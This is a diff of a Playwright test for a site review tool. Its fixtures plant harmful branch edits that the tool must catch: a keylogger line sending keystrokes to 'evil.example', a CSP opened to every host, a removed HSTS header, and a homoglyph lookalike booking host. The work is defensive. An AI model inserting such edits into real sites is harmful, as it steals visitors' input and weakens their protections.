@@ -56,6 +56,7 @@ test.beforeAll(async () => {
   test.setTimeout(240_000);
   project = await copyProject('review');
   await project.write('.gitignore', 'node_modules/\n/review*/\n');
+  await project.write('urls.lock', await readFile('tests/fixture/urls.lock'));
   startRepository(project.root);
   unchanged = await review('review-unchanged');
 });
@@ -89,17 +90,159 @@ test('a style is one change with its component, also one of hover', async () => 
   expect(made.same).toEqual([]);
 });
 
-test('a label of site.yaml is one change on every page that shows it', async () => {
-  const summary = await reviewOf('label', (copy) =>
-    copy.edit('content/site.yaml', (text) =>
-      text.replace('phone: "+354 000 0000"', 'phone: "+354 111 1111"'),
-    ),
-  );
-  // The number is a link too, so it is about where people are sent.
-  const shown = summary.changes.filter(({ cause }) => cause);
-  expect(shown.every(({ cause }) => cause?.file === 'content/site.yaml')).toBe(true);
-  expect(Math.max(...shown.map(({ pages }) => pages.length))).toBeGreaterThan(fixture.pages.length - 3);
-  expect(summary.changes.filter(({ kind }) => kind !== 'sent')).toEqual([]);
+/** What a branch does: in a file, one text takes the place of another, or a file is new. */
+type Edits = [file: string, from: string, to: string][];
+
+const listener = "addEventListener('keydown', (event) => fetch('https://evil.example/' + event.key));";
+const later: Edits = [
+  [
+    'content/page-later.mdx',
+    '',
+    `---
+template: page
+title: Later
+description: A page that visitors see later, described in as many characters as a search result shows of it.
+publishAt: 2026-11-02
+---
+
+All is well.
+
+All others are crooks.
+`,
+  ],
+];
+const served = (address: string): Edits => [
+  ['content/site.yaml', 'send: simulate', `send: endpoint\n  endpoint: ${address}`],
+];
+
+/** Branches whose harm somebody might overlook: the first sentence of their reviews, and what these must name. */
+const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
+  [
+    'rules that swap places, so that another one wins',
+    [
+      [
+        'src/theme/GlobalStyle.ts',
+        'h1 { font-size: var(--size-h1); line-height: 1; letter-spacing: -0.035em; }',
+        '',
+      ],
+      [
+        'src/theme/GlobalStyle.ts',
+        'h1, h2, h3, h4 { margin: 0;',
+        'h1 { font-size: var(--size-h1); line-height: 1; letter-spacing: -0.035em; }\n    h1, h2, h3, h4 { margin: 0;',
+      ],
+    ],
+    /^1 change of the look\.$/,
+    /h1.*, at another place among the rules/,
+  ],
+  [
+    'motion for people who asked for none, and text that is invisible while its font loads',
+    [
+      ['src/theme/GlobalStyle.ts', '*::after { animation: none !important;', '*::after { animation: none;'],
+      ['src/theme/fonts.ts', 'font-display: swap', 'font-display: block'],
+    ],
+    /^1 change of the look\.$|^2 changes of the look\.$/,
+    /prefers-reduced-motion(?=[\s\S]*font-display:block)|font-display:block(?=[\s\S]*prefers-reduced-motion)/,
+  ],
+  [
+    'a listener in the inline script',
+    [['src/client/boot.ts', "root.dataset.script = '';", `root.dataset.script = '';\n${listener}`]],
+    /^(New host: evil\.example|Scripts changed); .*\.$/,
+    /keydown/,
+  ],
+  [
+    'tags of the head of all pages',
+    [
+      ['src/render/head.ts', "'og:title', content: title", "'og:title', content: 'Win ' + title"],
+      ['src/render/Document.tsx', 'data-theme={firstTheme}', 'data-theme="system"'],
+    ],
+    /^\d changes? of what search engines see, \d other differences?\.$/,
+    /og:title(?=[\s\S]*data-theme)/,
+  ],
+  [
+    'an opened policy, and headers that are gone',
+    [
+      ['src/model/policy.ts', "'connect-src': `'self' ", "'connect-src': `* "],
+      ['scripts/deploy/rules.ts', "'Strict-Transport-Security': 'max-age=31536000',", ''],
+    ],
+    /^This branch changes the programs that check and review it: scripts\/deploy\/rules\.ts, src\/model\/policy\.ts\./,
+    /connect-src \*(?=[\s\S]*Strict-Transport)|Strict-Transport(?=[\s\S]*connect-src \*)/,
+  ],
+  [
+    'robots.txt, and a new file',
+    [
+      ['scripts/seo/writeDiscovery.ts', 'Allow: /', 'Disallow: /'],
+      ['public/humans.txt', '', 'Made by people.'],
+    ],
+    /^This branch changes the programs that check and review it: scripts\/seo\/writeDiscovery\.ts\./,
+    /Disallow: \/(?=[\s\S]*humans\.txt)/,
+  ],
+  [
+    'the icon, recolored',
+    [['public/favicon.svg', '</svg>', '<path d="M0 0h1v1z" fill="#f00"/></svg>']],
+    /^\d other differences\.$/,
+    /favicon\.svg/,
+  ],
+  [
+    'an address let go',
+    [['urls.lock', '/about\n', '']],
+    /^\/about is no longer an address that the site promises to keep\.$/,
+    /urls\.lock/,
+  ],
+  [
+    'what the form says after sending',
+    [['content/contact.mdx', 'Your note is sent', 'Your note is lost']],
+    /^1 other difference\.$/,
+    /Your note is sent → Your note is lost/,
+  ],
+  [
+    'a date that removes a page',
+    [['content/about.mdx', 'title: People', 'expiresAt: 2026-12-24\ntitle: People']],
+    /^\/about disappears on December 24, 2026\.$/,
+    /content\/about\.mdx:\d/,
+  ],
+  [
+    'the review itself, and the booking link',
+    [
+      ['scripts/review/words.ts', 'nothing changed', 'all is well'],
+      ['content/site.yaml', 'calendar.example.org', 'calendаr.example.org'],
+    ],
+    /^This branch changes the programs that check and review it: scripts\/review\/words\.ts\./,
+    /New host: xn--calendr-7fg\.example\.org, which looks like calendаr/,
+  ],
+  [
+    'where the form is sent',
+    served('https://formspree.io/f/abc'),
+    /^The form is sent to formspree\.io\.$/,
+    /connect-src 'self' → connect-src 'self' https:\/\/formspree\.io/,
+  ],
+  [
+    'the phone number, everywhere',
+    [['content/site.yaml', '"+354 000 0000"', '"+354 111 1111"']],
+    /^New phone number: \+3541111111\.$/,
+    /\+354 000 0000 → \+354 111 1111/,
+  ],
+  ['a page of tomorrow', later, /^1 page not live yet\.$/, /All others are crooks\./],
+];
+
+test('no harm of a branch is overlooked', async () => {
+  test.setTimeout(600_000);
+  for (const [index, [what, edits, first, named]] of harms.entries()) {
+    git(project.root, 'switch', '--quiet', '--create', `harm-${index}`, 'main');
+    for (const [file, from, to] of edits)
+      if (from === '') await project.write(file, to);
+      else await project.edit(file, (text) => text.replace(from, to));
+    commitAll(project.root, what);
+    const printed = await review('review-harm', '--no-pictures');
+    const { changes } = await summaryOf('review-harm');
+    const details = changes.flatMap((each) => [
+      `${each.what} ${each.cause?.file}:${each.cause?.line}`,
+      ...each.details.map(({ label, before, after }) => `${label} ${before} → ${after}`),
+    ]);
+    const [sentence] = printed.split('\n').filter((line) => !/^ +[\d.]+ s {2}/.test(line));
+    expect.soft(sentence, what).toMatch(first);
+    expect.soft(details.join('\n'), what).toMatch(named);
+    git(project.root, 'switch', '--quiet', 'main');
+  }
 });
 
 test.describe('the page of a review', () => {
